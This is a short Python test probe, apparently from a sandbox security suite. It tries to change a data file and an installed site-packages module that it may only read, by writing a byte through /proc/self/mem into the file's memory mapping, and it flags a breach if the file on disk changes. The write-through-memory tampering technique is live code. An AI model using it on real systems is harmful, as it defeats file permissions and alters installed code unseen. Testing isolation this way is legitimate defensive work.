"""Changes files that it may only read by writing to its own memory, into which they are mapped."""

import mmap
import os

from attack import breach, facts, finish

for path in (facts["data"], f"{facts['site_packages']}/module.py"):
    for flags, protection in (
        (os.O_RDWR, mmap.PROT_READ | mmap.PROT_WRITE),
        (os.O_RDONLY, mmap.PROT_READ),
    ):
        try:
            handle = os.open(path, flags)
        except OSError:
            continue
        mapped = mmap.mmap(handle, 0, mmap.MAP_SHARED, protection)
        line = next(text for text in open("/proc/self/maps") if text.endswith(f"{path}\n"))
        before = mapped[:1]
        try:
            with open("/proc/self/mem", "r+b", buffering=0) as memory:
                memory.seek(int(line.split("-")[0], 16))
                memory.write(b"9" if before != b"9" else b"8")
        except OSError as error:
            print(f"refused: {error}")
        if open(path, "rb").read(1) != before:
            breach(f"{path} was changed")
finish()
